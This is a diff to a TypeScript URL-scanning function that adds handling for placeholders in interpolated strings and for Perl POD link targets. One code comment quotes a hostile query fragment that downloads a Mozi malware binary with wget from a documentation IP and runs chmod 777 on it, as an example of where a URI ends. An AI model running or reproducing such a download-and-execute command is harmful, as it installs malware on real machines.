@@ -133,6 +133,7 @@ import {
 } from "./bare-schemes.js";
 import {
   firstPlaceholder,
+  interpolatingQuoteBefore,
   mayStartPlaceholder,
   PLACEHOLDER_STARTS,
   placeholderSegmentStart,
@@ -430,6 +431,9 @@ export function scanBare(
   // the first byte read that may start a template's placeholder (mayStartPlaceholder; -1:
   // none)
   let tmplScan = -1;
+  // 1 when the URI opens an interpolated string, whose "{" is a placeholder's
+  // (interpolatingQuoteBefore; UNKNOWN until a "{" asks)
+  let braces = UNKNOWN;
   // a shell command's argument in a query, its spaces encoded ("…;wget+http://192.0.2.14/Mozi.a;
   // chmod+777+…"): the URI ends at the next encoded space or command separator
   // (query-values.ts)
@@ -1479,7 +1483,14 @@ export function scanBare(
     // braces ("…/users/{user}/repos", "…/wiki/Sprite_{computer_graphics}"), read
     // percent-encoded as raw brackets are (raw-characters.ts). A "{" that nothing closes
     // ends the URI ("unwise", it delimits: 2396bis App. E), and "${" is a placeholder's
-    if (b === 0x7b && tmplScan < 0 && mayStartPlaceholder(buf, i, n)) tmplScan = i;
+    if (b === 0x7b && tmplScan < 0) {
+      if (mayStartPlaceholder(buf, i, n)) tmplScan = i;
+      else if (i + 1 < n && buf[i + 1] !== 0x7b) {
+        // (an interpolated string's "{name}": f"https://example.org/a/{suffix}")
+        if (braces === UNKNOWN) braces = interpolatingQuoteBefore(buf, s, ctx.lo) ? 1 : 0;
+        if (braces === 1) tmplScan = i;
+      }
+    }
     if (b === 0x7b && hasAuthority && buf[i - 1] !== 0x24) {
       if (auth >= 0) {
         auth = authorityEnd(buf, auth, i);
@@ -1804,8 +1815,16 @@ export function scanBare(
     if (after === 0x7b && buf[runEnd - 1] === 0x24) runEnd--;
     else if (after === 0x3e && buf[runEnd - 1] === 0x2d && buf[runEnd - 2] === 0x2d) runEnd -= 2;
     // an arrow's "->" after the URI: "Redirect http://a.example/x->https://b.example/y"
-    else if (after === 0x3e && buf[runEnd - 1] === 0x2d && runEnd - 1 > c1 + 2) runEnd--;
-    else if (after === 0x3e && buf[runEnd - 1] === 0x2f && buf[runEnd - 2] === 0x27) runEnd -= 2;
+    // (not POD's link, whose ">" closes it: "L<the reference|https://example.org/gc->",
+    // perlpod "L<text|url>")
+    else if (
+      after === 0x3e &&
+      buf[runEnd - 1] === 0x2d &&
+      runEnd - 1 > c1 + 2 &&
+      !podLinkBefore(buf, rawStart, ctx.lo)
+    ) {
+      runEnd--;
+    } else if (after === 0x3e && buf[runEnd - 1] === 0x2f && buf[runEnd - 2] === 0x27) runEnd -= 2;
   }
   // a template's placeholder (bare-templates.ts): `"https://www.mongodb.org/static/pgp/server-{{
   // mongodb_version }}.asc"`, `…/download/v${VERSION}/sops`, RPM's
@@ -1818,7 +1837,7 @@ export function scanBare(
     (runEnd < n && hasAuthority && (buf[runEnd] === 0x24 || buf[runEnd] === 0x7b))
   ) {
     const from = tmplScan >= 0 && tmplScan < runEnd ? tmplScan : runEnd;
-    let ph = firstPlaceholder(buf, from, runEnd, n, final);
+    let ph = firstPlaceholder(buf, from, runEnd, n, final, true, braces === 1);
     if (ph === MORE_INPUT) return MORE;
     // (a regular expression's group or "@NAME@" only in the path: in a query or a fragment,
     // "?q=(?:abc)", "#(.*)", a pattern is the link's own data)
@@ -2345,6 +2364,20 @@ function asciidocMacroBefore(buf: Uint8Array, s: number, lo: number): boolean {
  * buf[i, i+3) is "[]" and then no URI character, or sentence punctuation (PHP's "a[]=1"
  * goes on)
  */
+/**
+ * The URI at s is a POD link's target after its text and "|": "L<" then no ">" up to the
+ * "|" right before s, on the URI's line (perlpod, "L<text|url>"); looked at within 256 bytes
+ */
+function podLinkBefore(buf: Uint8Array, s: number, lo: number): boolean {
+  if (s - 3 < lo || buf[s - 1] !== 0x7c) return false;
+  for (let k = s - 2; k > lo && s - k <= 256; k--) {
+    const b = buf[k]!;
+    if (b === 0x3e || b === 0x0a) return false;
+    if (b === 0x3c) return buf[k - 1] === 0x4c;
+  }
+  return false;
+}
+
 function emptyPairEnds(buf: Uint8Array, i: number): boolean {
   if (buf[i + 1] !== 0x5d) return false;
   const x = buf[i + 2]!;
